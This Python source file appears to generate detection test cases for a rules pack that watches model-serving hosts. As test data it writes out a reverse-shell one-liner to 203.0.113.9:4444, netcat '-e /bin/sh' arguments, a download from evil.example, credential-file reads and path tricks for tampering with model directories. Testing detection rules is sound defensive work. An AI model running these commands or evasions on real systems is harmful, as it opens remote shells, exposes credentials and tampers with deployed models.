"""List-completeness cases: one derived case per item of each list (and list-mirroring macro) of the
shipped pack that a rule's detection depends on, built from the **pack's** items, not the loaded
ones. A tuning that replaces such a list without an item, or excepts an item (a `.pkl` model load, the
huggingface-cli download tool), fails on the case named after that item. The model dirs' cases are
also built for every dir the user's files add (the list as loaded): a dir appended without its
`/proc` glob or its '..' glob fails on the case named after it.

Only lists whose items make a rule fire are here (download tools, shells, interpreters, script
runners, model extensions, model dirs and the directories above them, writable exec dirs, token
dirs and names, home credential files); the allow-lists (egress networks, site roots, public token
files...) only quiet a rule, and a tuning that drops one of their items makes more alerts, not fewer.
"""

# ruff: noqa: S108 - the paths are what the attacker's program names: text in derived captures.

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from responder.rulespack.condition import parse
from responder.rulespack.derived import DerivedCase
from responder.rulespack.evasions_common import (
    CREDENTIALS,
    DOWNLOAD,
    DRIFT,
    EXEC,
    MODEL_LOAD,
    RENAMED,
    REVERSE_SHELL,
    SHELL,
    TAMPER,
    case,
    exec_as,
    fires,
    opened,
    opens_instead,
    shows,
)
from responder.rulespack.evasions_files import RECORDED_MODEL_LOAD, RECORDED_MODEL_WRITE, _rename, _token
from responder.rulespack.evasions_keywords import keywords
from responder.rulespack.expand import RuleSet, load_paths
from responder.rulespack.recorded import (
    CAT_H1,
    CURL_F2,
    MV_D2,
    PYTHON_B1,
    PYTHON_C1,
    PYTHON_D1,
    SH_A1,
    Recorded,
)

MODEL_DIRS = "serving_guard_model_dirs"
OUTSIDE_TOOL = "/opt/tools"  # a directory no list names: the item alone must match
ONE_LINER = 's=socket();s.connect(("203.0.113.9",4444));dup2(s,0);exec("/bin/sh")'


@dataclass(frozen=True)
class PackLists:
    """The shipped pack as loaded: its lists compiled (the pack's own appends applied, the lists they
    name spliced in), and its macros' conditions."""

    ruleset: RuleSet

    def items(self, name: str) -> tuple[str, ...]:
        if name not in self.ruleset.list_items:
            raise ValueError(f"the pack defines no list {name}: the list cases were written for it")
        return tuple(self.ruleset.list_items[name])

    def endswith_paths(self, macro: str) -> tuple[str, ...]:
        """The `fd.name endswith PATH` operands of a macro (a list spelled out as a condition)."""
        if macro not in self.ruleset.macros:
            raise ValueError(f"the pack defines no macro {macro}: the list cases were written for it")
        operands = keywords(parse(self.ruleset.macros[macro].condition), self.ruleset.list_items)
        return tuple(k.value for k in operands if k.field == "fd.name" and k.op == "endswith")


def _model_dirs(lists: PackLists, loaded: RuleSet | None) -> tuple[str, ...]:
    """The pack's model dirs, then those the loaded rules (the user's files) add: a dir of the user's
    must hold as the pack's do."""
    items = lists.items(MODEL_DIRS)
    if loaded is None or MODEL_DIRS not in loaded.list_items:
        return items
    return (*items, *dict.fromkeys(item for item in loaded.list_items[MODEL_DIRS] if item not in items))


def read_pack_lists(pack: Path) -> PackLists:
    return PackLists(load_paths([str(pack)]))


def _group(name: str, what: str) -> str:
    return f"{name}: each item {what}"


# The recorded program each rule's list cases start, and that rule.
DOWNLOADS = (CURL_F2, DOWNLOAD)
SHELLS = (SH_A1, SHELL)
REVERSE_SHELLS = (PYTHON_B1, REVERSE_SHELL)
DRIFTS = (CURL_F2, DRIFT)


def _exec_case(
    group: str, item: str, recorded_rule: tuple[Recorded, str], path: str, argv: list[str], name: str
) -> DerivedCase:
    recorded, rule = recorded_rule
    return case(
        group,
        item,
        recorded,
        exec_as(recorded, path=path, argv=argv, name=name),
        fires(rule, True, EXEC, count=1),
        witness=(shows(EXEC, {"proc.name": name, "proc.exepath": path}),),
    )


def _by_name(
    lists: PackLists, name: str, recorded_rule: tuple[Recorded, str], what: str, args: Sequence[str]
) -> list[DerivedCase]:
    """A program of each item's name, from a directory no list names."""
    group = _group(name, what)
    return [
        _exec_case(group, item, recorded_rule, f"{OUTSIDE_TOOL}/{item}", [item, *args], item[:15])
        for item in lists.items(name)
    ]


def _by_path(
    lists: PackLists, name: str, recorded_rule: tuple[Recorded, str], what: str, args: Sequence[str]
) -> list[DerivedCase]:
    """A program at each item's path, under a name no list names."""
    group = _group(name, what)
    return [_exec_case(group, item, recorded_rule, item, ["x", *args], "x") for item in lists.items(name)]


# The recorded opens the file cases move: c1's model load, d1's model write.
MODEL_LOADED = (PYTHON_C1, RECORDED_MODEL_LOAD)
MODEL_WRITTEN = (PYTHON_D1, RECORDED_MODEL_WRITE)


def _opens(group: str, rule: str, item: str, recorded_open: tuple[Recorded, str], path: str) -> DerivedCase:
    recorded, recorded_path = recorded_open
    return case(
        group,
        item,
        recorded,
        opens_instead(recorded, recorded_path, path),
        fires(rule, True, opened(path)),
        witness=(shows(opened(path), count=None),),
    )


def _token_case(group: str, item: str, path: str) -> DerivedCase:
    return case(
        group,
        item,
        CAT_H1,
        _token(path),
        fires(CREDENTIALS, True, opened(path), count=1),
    )


def _dotted_write(group: str, item: str) -> DerivedCase:
    """A model dir's config written through /var/run/.. (the kernel follows /var/run to /run, so
    the write lands in the dir; libsinsp resolves the '..' as text and shows /var<dir>/...)."""
    recorded, recorded_path = MODEL_WRITTEN
    shown = f"/var{item}/m/config.pbtxt"
    return case(
        group,
        item,
        recorded,
        opens_instead(recorded, recorded_path, f"/var/run/..{item}/m/config.pbtxt"),
        fires(TAMPER, True, opened(shown)),
        witness=(shows(opened(shown), count=None),),
    )


def _files(lists: PackLists, loaded: RuleSet | None = None) -> list[DerivedCase]:
    cases = []
    group = _group("serving_guard_model_extensions", "loaded from /tmp is a model load")
    for ext in lists.items("serving_guard_model_extensions"):
        cases.append(_opens(group, MODEL_LOAD, ext, MODEL_LOADED, f"/tmp/evil/model{ext}"))
    model_dirs = _model_dirs(lists, loaded)
    group = _group(MODEL_DIRS, "written is tampering")
    for item in model_dirs:
        cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"{item}/m/config.pbtxt"))
    group = _group(MODEL_DIRS, "written through /proc/1/root is tampering")
    for item in model_dirs:
        cases.append(_opens(group, TAMPER, item, MODEL_WRITTEN, f"/proc/1/root{item}/m/config.pbtxt"))
    group = _group(MODEL_DIRS, "written through /var/run/.. is tampering")
    cases += [_dotted_write(group, item) for item in model_dirs]
    group = _group("serving_guard_model_dir_ancestors", "renamed away is tampering")
    for item in lists.items("serving_guard_model_dir_ancestors"):
        cases.append(
            case(
                group,
                item,
                MV_D2,
                _rename(item, f"{item}.orig"),
                fires(TAMPER, True, RENAMED),
                witness=(shows(RENAMED),),
            )
        )
    group = _group("serving_guard_credential_files", "read is credential access")
    cases += [_token_case(group, item, item) for item in lists.items("serving_guard_credential_files")]
    group = _group("serving_guard_credential_dirs", "read below is credential access")
    for item in lists.items("serving_guard_credential_dirs"):
        cases.append(_token_case(group, item, f"{item}/..data/key"))
    group = _group("serving_guard_token_file_names", "read through /proc/self/cwd is credential access")
    for item in lists.items("serving_guard_token_file_names"):
        cases.append(_token_case(group, item, f"/proc/self/cwd/{item}"))
    group = _group("serving_guard_home_credential_file", "read in /root is credential access")
    for item in lists.endswith_paths("serving_guard_home_credential_file"):
        cases.append(_token_case(group, item, f"/root{item}"))
    return cases


def _exec_dirs(lists: PackLists) -> list[DerivedCase]:
    group = _group("serving_guard_writable_exec_dirs", "holding the program run is drift")
    return [
        _exec_case(group, item, DRIFTS, f"{item}/x", ["x"], "x")
        for item in lists.items("serving_guard_writable_exec_dirs")
    ]


def list_cases(pack: RuleSet, loaded: RuleSet | None = None) -> list[DerivedCase]:
    """The list-completeness cases of the pack ``pack``, as loaded (the shipped one: its items are
    the ones no tuning may lose); with ``loaded`` (the rules `rules test` runs: the pack and the
    user's files), also a model dir case for each dir the user's files add."""
    lists = PackLists(pack)
    url = ["evil.example/x"]
    cases = [
        *_by_name(lists, "serving_guard_download_tools", DOWNLOADS, "by name is a download", url),
        *_by_path(lists, "serving_guard_download_tool_paths", DOWNLOADS, "by path is a download", url),
        *_by_name(lists, "serving_guard_shell_binaries", SHELLS, "by name is a shell", ["-c", "id"]),
        *_by_path(lists, "serving_guard_shell_paths", SHELLS, "by path is a shell", ["-c", "id"]),
        *_by_name(
            lists,
            "serving_guard_script_interpreters",
            REVERSE_SHELLS,
            "running a reverse-shell one-liner is a reverse shell",
            ["-e", ONE_LINER],
        ),
        *_by_name(
            lists,
            "serving_guard_netcat_binaries",
            REVERSE_SHELLS,
            "with -e is a reverse shell",
            ["-e", "/bin/sh", "203.0.113.9", "4444"],
        ),
        *_by_name(
            lists, "serving_guard_script_runners", DRIFTS, "running /tmp/x.script is drift", ["/tmp/x.script"]
        ),
        *_by_path(
            lists,
            "serving_guard_script_runner_paths",
            DRIFTS,
            "running /tmp/x.script is drift",
            ["/tmp/x.script"],
        ),
    ]
    return [*cases, *_exec_dirs(lists), *_files(lists, loaded)]
